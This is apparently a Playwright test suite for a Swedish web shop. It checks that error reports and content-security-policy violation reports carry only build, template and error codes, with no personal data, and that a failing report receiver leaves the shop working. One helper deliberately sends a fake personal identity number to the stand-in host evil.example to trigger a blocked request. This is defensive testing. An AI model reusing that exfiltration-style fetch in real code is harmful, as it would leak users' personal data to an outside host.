import type { Page } from '@playwright/test';
import { measuring } from '../../support/consent';
import { envelopes, type StoredReport, watchReports } from '../../support/error-reports';
import { addressIn, test as base, expect, launchIn, modes } from '../../support/launch-in';
import { plainProduct } from '../../support/products';
import { quiet } from '../../support/quiet-network';
import { addToCart } from '../../support/steps';

/** Violations of the policy, which these journeys cause, are complaints elsewhere. */
const test = base.extend<{ complaints: readonly string[] }>({
  complaints: async ({ levels: _ }, use) => use([]),
});

const secret = 'Kim Lund 19870412-9803';

/** The first report, once it has arrived. */
async function firstOf(reports: () => Promise<StoredReport[]>): Promise<StoredReport> {
  await expect.poll(async () => (await reports()).length).toBeGreaterThan(0);
  return (await reports())[0] as StoredReport;
}

/** The build's hash, as the document names it. */
async function buildOf(page: Page): Promise<string | undefined> {
  const files = await page.locator('script[data-files]').getAttribute('data-files');
  return /-(\w+)\.js/.exec(files ?? '')?.[1];
}

/** Requests an address that the content security policy blocks. */
async function violate(page: Page): Promise<void> {
  await page.evaluate((text) => fetch(`https://evil.example/${text}?q=${text}`).catch(() => {}), secret);
}

for (const mode of modes) {
  test(`${mode}: an error of ours reaches the receiver with build and kind of page, and nothing else`, async ({
    page,
  }) => {
    const shop = await launchIn(page, mode);
    const product = plainProduct();
    const reports = watchReports(page);
    await page.addInitScript((text) => {
      HTMLDialogElement.prototype.showModal = () => {
        throw new RangeError(`${text} ${location.href}`);
      };
    }, secret);
    await shop.hasDeclinedCookies();
    await shop.open(product.path);
    await quiet(page);
    expect(shop.requested.filter((url) => /report-client-|error-reports/.test(url))).toEqual([]);
    await page.getByRole('button', { name: 'Lägg i varukorgen' }).click();

    const { event, text } = await firstOf(reports);
    expect(event.release).toBe(`luckan@${await buildOf(page)}`);
    expect(event.tags).toEqual({
      code: 'RangeError',
      where: expect.stringMatching(/^(part|unhandled)$/),
      mode,
      template: 'product',
      engine: 'chromium',
    });
    const files = event.exception.values[0].stacktrace?.frames.map(({ filename }) => filename) ?? [];
    expect(files.length).toBeGreaterThan(0);
    for (const file of files) expect(file).toMatch(/^app:\/\/\/assets\/[\w-]+-[A-Z2-7]{8}\.js$/);
    const { href } = new URL(page.url());
    for (const part of [
      secret,
      '19870412',
      'Kim',
      href,
      product.path,
      product.title,
      product.productNumber,
      'localhost',
    ])
      expect(text).not.toContain(part);
    expect(await page.context().cookies(new URL('/', 'http://127.0.0.1').href)).toEqual([]);
    expect(measuring(page, shop.requested)).toEqual([]);
    const keys = await page.evaluate(() => [...Object.keys(localStorage), ...Object.keys(sessionStorage)]);
    expect(keys.filter((key) => !key.startsWith('luckan.'))).toEqual([]);
  });

  test(`${mode}, alike: a screen that cannot be loaded is reported with its file`, async ({ page }) => {
    const shop = await launchIn(page, mode);
    const reports = watchReports(page);
    await page.route(/\/assets\/Favourites-\w+\.js$/, (route) => route.fulfill({ status: 404 }));
    await shop.open('/favoriter/');
    await expect(page.getByRole('heading', { level: 1, name: 'Någonting gick fel' })).toBeVisible();
    const { event } = await firstOf(reports);
    expect(event.tags).toMatchObject({
      code: 'TypeError',
      where: 'screen',
      mode,
      template: '/favoriter/',
      chunk: expect.stringMatching(/^Favourites-\w{8}\.js$/),
    });
  });

  test(`${mode}, alike: a violation of the content security policy is reported with directive and origin alone`, async ({
    page,
  }) => {
    const shop = await launchIn(page, mode);
    const reports = watchReports(page);
    await shop.open('/recept/');
    // Not before the shop has started: nobody records those.
    await expect(page.getByRole('status', { name: 'Sidan laddas' })).toHaveCount(0);
    await violate(page);
    const { event, text } = await firstOf(reports);
    expect(event.tags).toMatchObject({
      code: 'violation',
      where: 'policy',
      directive: 'connect-src',
      blocked: 'https://evil.example',
      mode,
      template: '/recept/',
    });
    for (const part of ['Kim', '19870412', '?q=']) expect(text).not.toContain(part);
  });

  test(`${mode}, alike: a shop that cannot start reports it, and tells the visitor`, async ({ page }) => {
    await launchIn(page, mode);
    const reports = watchReports(page);
    await page.addInitScript((text) => {
      window.matchMedia = () => {
        throw new RangeError(`${text} ${location.href}`);
      };
    }, secret);
    await page.goto(addressIn(mode, plainProduct().path));
    await expect(page.getByRole('alert')).toContainText('Butiken kunde inte startas.');
    const { event, text } = await firstOf(reports);
    expect(event.release).toMatch(/^luckan@\w{8}$/);
    expect(event.tags).toEqual({
      code: 'RangeError',
      where: 'boot',
      mode,
      template: 'product',
      engine: 'chromium',
    });
    for (const part of [secret, plainProduct().path, 'localhost']) expect(text).not.toContain(part);
  });

  for (const [what, answer] of Object.entries({
    'does not answer': () => {},
    fails: (route) => route.fulfill({ status: 503 }),
    'is blocked': (route) => route.abort('blockedbyclient'),
  } satisfies Record<string, Parameters<Page['route']>[1]>)) {
    test(`${mode}, alike: a receiver that ${what} does not disturb the shop`, async ({ page }) => {
      const shop = await launchIn(page, mode);
      const product = plainProduct();
      const failures: string[] = [];
      page.on('pageerror', ({ message }) => failures.push(message));
      await page.route(envelopes, answer);
      await shop.hasDeclinedCookies();
      await shop.open(product.path);
      await quiet(page);
      const sent = page.waitForRequest(envelopes);
      await violate(page);
      await sent;
      await addToCart(page, product);
      await page.keyboard.press('Escape');
      await shop.open('/varukorg/');
      await expect(page.getByRole('link', { name: product.title }).first()).toBeVisible();
      expect(failures).toEqual([]);
    });
  }
}

test('site: a tag manager that cannot be loaded is reported', async ({ page }) => {
  const shop = await launchIn(page, 'site');
  const reports = watchReports(page);
  await page.route(/gtm\.js/, (route) => route.abort());
  await shop.open('/');
  await shop.acceptCookies();
  const { event } = await firstOf(reports);
  expect(event.tags).toMatchObject({ code: 'tagManagerLoad', where: 'tag-manager', mode: 'site', template: 'home' });
});
